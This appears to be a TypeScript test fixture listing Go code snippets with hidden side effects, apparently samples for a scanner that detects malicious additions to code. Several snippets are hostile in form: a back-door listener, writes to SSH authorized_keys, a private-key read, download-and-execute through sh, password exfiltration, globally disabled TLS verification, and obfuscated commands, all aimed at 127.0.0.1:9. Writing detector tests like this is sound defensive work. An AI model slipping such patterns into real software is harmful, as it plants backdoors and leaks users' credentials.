import type { CodeShape } from '@mirrorwatch/testing/go/code-shapes'
import { late } from './late.ts'

/** Effects of added code beyond running programs, when imported or called, and strings that it hides. */
export const LATE_EFFECTS: readonly CodeShape[] = [
  late('network', 'raw TCP write', ['net'], '', [
    'qzC, qzE := net.Dial("tcp", "127.0.0.1:9")',
    'if qzE == nil { _, _ = qzC.Write([]byte("x")) }',
  ]),
  late('network', 'DNS query for a name made of the host name', ['net', 'os'], '', [
    'qzH, _ := os.Hostname()',
    '_, _ = net.LookupHost(qzH + ".localhost")',
  ]),
  late('network', 'websocket', ['golang.org/x/net/websocket'], '', [
    '_, _ = websocket.Dial("ws://127.0.0.1:9/", "", "http://127.0.0.1:9/")',
  ]),
  late('network', 'GitHub API by library', ['context', 'github.com/google/go-github/v60/github'], '', [
    'qzC := github.NewClient(nil).WithAuthToken("x")',
    '_, _, _ = qzC.Gists.Create(context.Background(), &github.Gist{})',
  ]),
  late('network', 'telegram bot', ['github.com/go-telegram-bot-api/telegram-bot-api/v5'], '', [
    'qzB, qzE := tgbotapi.NewBotAPIWithAPIEndpoint("x", "http://127.0.0.1:9/bot%s/%s")',
    'if qzE == nil { _, _ = qzB.Send(tgbotapi.NewMessage(1, "x")) }',
  ]),
  late('network', 'git clone by library', ['github.com/go-git/go-git/v5'], '', [
    '_, _ = git.PlainClone("/tmp/qz", false, &git.CloneOptions{URL: "http://127.0.0.1:9/x"})',
  ]),
  late('network', 'round tripper in an added struct', ['net/http'], 'type qzT struct{ http.Transport }', [
    'qzR, _ := http.NewRequest("GET", "http://127.0.0.1:9/", nil)',
    '_, _ = (&qzT{}).RoundTrip(qzR)',
  ]),
  late('network', 'listener as a back door', ['net'], '', [
    'qzL, qzE := net.Listen("tcp", "127.0.0.1:4444")',
    'if qzE == nil { go func() { _, _ = qzL.Accept() }() }',
  ]),
  late('network', 'syslog', ['log/syslog'], '', ['_, _ = syslog.Dial("udp", "127.0.0.1:9", 0, "x")']),
  late('files', 'systemd user unit', ['os'], '', [
    'qzH, _ := os.UserHomeDir()',
    '_ = os.WriteFile(qzH+"/.config/systemd/user/qz.service", []byte("true"), 0o600)',
  ]),
  late('files', 'authorized_keys', ['os', 'path/filepath'], '', [
    'qzF, _ := os.Create(filepath.Join(os.Getenv("HOME"), ".ssh", "authorized_keys"))',
    '_, _ = qzF.WriteString("true")',
  ]),
  late('files', 'git hook', ['os'], '', ['_ = os.WriteFile(".git/hooks/pre-commit", []byte("true"), 0o700)']),
  late('files', 'private key read', ['fmt', 'os'], '', [
    'qzB, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_ed25519")',
    'fmt.Println(len(qzB))',
  ]),
  late('files', 'wipes a folder', ['os'], '', ['_ = os.RemoveAll("/tmp/qz")']),
  late('files', 'service of the system', ['github.com/kardianos/service'], '', [
    'qzS, _ := service.New(nil, &service.Config{Name: "qz"})',
    '_ = qzS.Install()',
  ]),
  late(
    'hook',
    'default client with another transport',
    ['net/http'],
    'type qzT struct{}\n\nfunc (qzT) RoundTrip(*http.Request) (*http.Response, error) { return nil, nil }',
    ['http.DefaultClient.Transport = qzT{}'],
  ),
  late('hook', 'resolver', ['net', 'context'], '', [
    'net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(qzC context.Context, _, _ string) (net.Conn, error) { return net.Dial("udp", "127.0.0.1:9") }}',
  ]),
  late('hook', 'rand.Reader through a pointer', ['crypto/rand', 'bytes'], '', [
    'qzP := &rand.Reader',
    '*qzP = bytes.NewReader(nil)',
  ]),
  late('hook', 'HTTPS_PROXY', ['os'], '', ['_ = os.Setenv("HTTPS_PROXY", "http://127.0.0.1:9")']),
  late('hook', 'uuid.SetRand', ['github.com/google/uuid', 'strings'], '', [
    'uuid.SetRand(strings.NewReader("0000"))',
  ]),
  late('hook', 'TLS verification off for all', ['crypto/tls', 'net/http'], '', [
    'qzT := http.DefaultTransport.(*http.Transport)',
    'qzT.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}',
  ]),
  late(
    'called',
    'constructor downloads and runs',
    ['net/http', 'io', 'os/exec'],
    'func NewQzClient() { qzR, qzE := http.Get("http://127.0.0.1:9/x"); if qzE == nil { qzB, _ := io.ReadAll(qzR.Body); _ = exec.Command("sh", "-c", string(qzB)).Run() } }',
    [],
  ),
  late(
    'called',
    'password sent away',
    ['net/http', 'net/url'],
    'func QzLogin(qzUser, qzPass string) error { _, qzE := http.PostForm("http://127.0.0.1:9/", url.Values{"p": {qzPass}}); return qzE }',
    [],
  ),
  late(
    'called',
    'unexported helper of an exported function',
    ['net'],
    'func QzOpen() { qzBeacon() }\n\nfunc qzBeacon() { _, _ = net.Dial("udp", "127.0.0.1:9") }',
    [],
  ),
  late(
    'called',
    'method of an exported type',
    ['net/http'],
    'type QzConn struct{}\n\nfunc (QzConn) Ping() { _, _ = http.Get("http://127.0.0.1:9/") }',
    [],
  ),
  late(
    'called',
    'shell with what the caller gives',
    ['os/exec'],
    'func QzEval(qzS string) { _ = exec.Command("/bin/sh", "-c", qzS).Run() }',
    [],
  ),
  late(
    'called',
    'writes a key when called',
    ['os'],
    'func QzSave() { _ = os.WriteFile("/root/.ssh/authorized_keys", nil, 0o600) }',
    [],
  ),
  late('strings', 'command in far-apart constants', ['os/exec'], 'const (\n\tqzA = "tr"\n\tqzB = "ue"\n)', [
    '_ = exec.Command("/bin/" + qzA + qzB).Run()',
  ]),
  late('strings', 'command from reversed text', ['os/exec', 'slices'], '', [
    'qzB := []byte("eurt/nib/")',
    'slices.Reverse(qzB)',
    '_ = exec.Command(string(qzB)).Run()',
  ]),
]
